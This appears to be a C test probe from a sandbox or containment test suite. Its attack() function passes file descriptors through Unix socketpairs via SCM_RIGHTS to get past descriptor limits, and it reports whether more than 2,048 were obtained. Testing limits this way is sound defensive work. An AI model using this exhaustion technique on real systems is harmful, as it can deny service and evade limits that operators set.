/* Opens all it may, and sends descriptors of descriptors through sockets. */
#include "serve.h"

static void in_flight(int channel, int fd)
{
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
    struct iovec bytes = {(char[]){"x"}, 1};
    struct msghdr message = {.msg_iov = &bytes,
                             .msg_iovlen = 1,
                             .msg_control = control.bytes,
                             .msg_controllen = sizeof control.bytes};
    memcpy(CMSG_DATA(&control.header), &fd, sizeof fd);
    sendmsg(channel, &message, MSG_DONTWAIT);
}

static void attack(void)
{
    int pair[2], made = 0;
    for (int i = 0; i < 1200 && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0; i++) {
        in_flight(pair[0], pair[i % 2]);
        if (i % 4 == 0)
            close(pair[0]);
        made = pair[1];
    }
    if (made >= 2048)
        escaped("more than 2,048 descriptors");
    tried("descriptors");
    close_range(3, ~0u, 0);
}

int main(int argc, char **argv)
{
    attack();
    return serve(argc, argv);
}
